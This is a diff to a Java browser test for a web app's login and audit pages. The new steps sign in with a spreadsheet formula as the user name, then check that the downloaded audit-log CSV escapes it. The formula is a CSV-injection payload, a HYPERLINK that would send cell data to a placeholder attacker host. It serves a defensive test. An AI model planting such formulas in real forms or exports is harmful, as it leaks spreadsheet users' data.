@@ -147,6 +147,11 @@ class BrowserJourneyTest {
         driver.get(url("login"));
         waitForText("Demo accounts");
         screenshot("login-en");
+        // Somebody types a spreadsheet formula as the user name.
+        String marker = Long.toString(System.nanoTime() % 100000, 36);
+        String formula = "=HYPERLINK(\"http://ev.il/?\"&A1)" + marker;
+        signIn(formula, "wrong-password");
+        waitForText("The user name or the password is wrong");
 
         signIn("admin", "demo1234");
         waitForText("Good day, Богдан Кравець");
@@ -156,6 +161,19 @@ class BrowserJourneyTest {
         Chromium.clickFirst(driver, "vaadin-side-nav-item", item -> item.getText().equals("Agencies"));
         waitForText("Загальноосвітня школа № 12");
         screenshot("agencies-en");
+
+        // The audit log's CSV, as the browser downloads it: the typed formula is inert.
+        driver.get(url("audit"));
+        waitForText("Download CSV");
+        Chromium.waitForVaadin(driver);
+        String csv = (String) ((JavascriptExecutor) driver).executeAsyncScript("""
+                const done = arguments[0];
+                const link = [...document.querySelectorAll('a')].find(a => a.textContent.includes('Download CSV'));
+                fetch(link.href).then(r => r.text()).then(done);
+                """);
+        assertThat(csv).startsWith("\uFEFF\"at\";\"user\"");
+        assertThat(csv.lines().filter(l -> l.contains(marker) && l.contains("HYPERLINK")))
+                .singleElement().satisfies(l -> assertThat(l).contains(";\"'" + formula.replace("\"", "\"\"") + "\";"));
     }
 
     @Test
